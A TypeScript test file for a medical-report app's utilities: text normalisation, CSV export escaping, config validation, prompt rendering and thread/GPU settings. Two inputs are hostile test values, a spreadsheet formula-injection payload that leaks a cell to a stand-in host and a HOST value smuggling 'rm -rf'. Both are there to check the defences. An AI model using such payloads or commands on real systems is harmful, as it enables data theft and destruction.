import os from "node:os";
import { test } from "node:test";
import { readEnv, rereadEnv, ConfigError } from "../../lib/platform/env.ts";
import assert from "node:assert/strict";
import { csvField } from "../../lib/results/export.ts";
import { normalizeText } from "../../lib/platform/text.ts";

test("every text is flattened the same way, whatever its formatting", () => {
  assert.equal(
    normalizeText("  No acute\r\n\tcardiopulmonary   abnormality. \n"),
    "No acute cardiopulmonary abnormality.",
  );
  assert.equal(normalizeText("Cafe\u0301\u200B effusion"), "Café effusion");
  assert.equal(normalizeText("a\u00A0b"), "a b");
});

test("CSV fields are quoted when needed and formulas are neutralised", () => {
  assert.equal(csvField('He said "no"'), '"He said ""no"""');
  assert.equal(csvField("a,b"), '"a,b"');
  assert.equal(csvField("line\nbreak"), '"line\nbreak"');
  assert.equal(csvField("=HYPERLINK(1)"), "'=HYPERLINK(1)");
  assert.equal(csvField("-2"), "-2");
  assert.equal(csvField("-1.5"), "-1.5");
  assert.equal(csvField('-1+HYPERLINK("https://x/?"&A2,"x")'), `"'-1+HYPERLINK(""https://x/?""&A2,""x"")"`);
  assert.equal(csvField(null), "");
  assert.equal(csvField(new Date("2026-01-02T03:04:05Z")), "2026-01-02T03:04:05.000Z");
});

test("configuration is validated with messages naming the setting", () => {
  assert.equal(readEnv({}).PORT, 3000);
  assert.equal(readEnv({ DATABASE_URL: "" }).DATABASE_URL, undefined);
  assert.throws(
    () => readEnv({ DATABASE_URL: "mysql://x" }),
    (e: unknown) => e instanceof ConfigError && /DATABASE_URL: must be a postgres/.test(e.message),
  );
  assert.throws(
    () => readEnv({ PORT: "eighty" }),
    (e: unknown) => e instanceof ConfigError && /PORT/.test(e.message),
  );
  assert.throws(
    () => readEnv({ AUTH_SECRET: "short" }),
    (e: unknown) => e instanceof ConfigError && /AUTH_SECRET: must be at least 32/.test(e.message),
  );
  assert.equal(readEnv({ HOST: "127.0.0.1" }).HOST, "127.0.0.1");
  assert.throws(
    () => readEnv({ HOST: "0.0.0.0; rm -rf" }),
    (e: unknown) => e instanceof ConfigError && /HOST: must be a host name/.test(e.message),
  );
});

test("prompts are rendered in one pass: findings are inserted as written", async () => {
  const { renderPrompt } = await import("../../lib/systems/llm-config.ts");
  assert.equal(
    renderPrompt("F: {{findings}} I: {{indication}}", {
      findings: "cost $& {{indication}}",
      metadata: { indication: "cough" },
    }),
    "F: cost $& {{indication}} I: cough",
  );
});

test("threads: one for a small model, the cores for a large one, SECONDREAD_THREADS over both", async () => {
  const { SMALL_MODEL_BYTES, threadCount } = await import("../../lib/generation/llm.ts");
  const saved = process.env.SECONDREAD_THREADS;
  try {
    delete process.env.SECONDREAD_THREADS;
    rereadEnv();
    assert.equal(threadCount(4_027_584), 1);
    assert.equal(threadCount(SMALL_MODEL_BYTES), os.availableParallelism());
    assert.equal(threadCount(), os.availableParallelism());
    process.env.SECONDREAD_THREADS = "3";
    rereadEnv();
    assert.equal(threadCount(4_027_584), 3);
  } finally {
    if (saved === undefined) delete process.env.SECONDREAD_THREADS;
    else process.env.SECONDREAD_THREADS = saved;
    rereadEnv();
  }
});

test("SECONDREAD_GPU: off by default, a backend name or auto, anything else a clear error", async () => {
  assert.equal(readEnv({}).SECONDREAD_GPU, "off");
  assert.equal(readEnv({ SECONDREAD_GPU: "auto" }).SECONDREAD_GPU, "auto");
  assert.throws(
    () => readEnv({ SECONDREAD_GPU: "yes" }),
    (e: Error) => e instanceof ConfigError && /SECONDREAD_GPU: must be "off", "auto"/.test(e.message),
  );
  const { gpuOption } = await import("../../lib/generation/llm.ts");
  const saved = process.env.SECONDREAD_GPU;
  try {
    delete process.env.SECONDREAD_GPU;
    rereadEnv();
    assert.equal(gpuOption(), false);
    process.env.SECONDREAD_GPU = "cuda";
    rereadEnv();
    assert.equal(gpuOption(), "cuda");
  } finally {
    if (saved === undefined) delete process.env.SECONDREAD_GPU;
    else process.env.SECONDREAD_GPU = saved;
    rereadEnv();
  }
});

test("settings are read once and checked: a bad value stops with the setting named", async () => {
  for (const [name, value] of [
    ["GENERATION_JOB_TIMEOUT_S", "abc"],
    ["GENERATION_MAINTENANCE_S", "0"],
    ["SECONDREAD_PARALLEL", "0"],
    ["SECONDREAD_FETCH_BATCH", "1.5"],
    ["SECONDREAD_THREADS", "-1"],
  ]) {
    assert.throws(
      () => readEnv({ [name]: value }),
      (e: Error) => e instanceof ConfigError && e.message.includes(`${name}:`),
      name,
    );
  }
  const { jobTimeoutSeconds } = await import("../../lib/generation/generation.ts");
  const saved = process.env.GENERATION_JOB_TIMEOUT_S;
  try {
    process.env.GENERATION_JOB_TIMEOUT_S = "7";
    rereadEnv();
    assert.equal(jobTimeoutSeconds(), 7);
    process.env.GENERATION_JOB_TIMEOUT_S = "8";
    assert.equal(jobTimeoutSeconds(), 7, "read once: a later change is not seen");
    rereadEnv();
    assert.equal(jobTimeoutSeconds(), 8);
  } finally {
    if (saved === undefined) delete process.env.GENERATION_JOB_TIMEOUT_S;
    else process.env.GENERATION_JOB_TIMEOUT_S = saved;
    rereadEnv();
  }
});
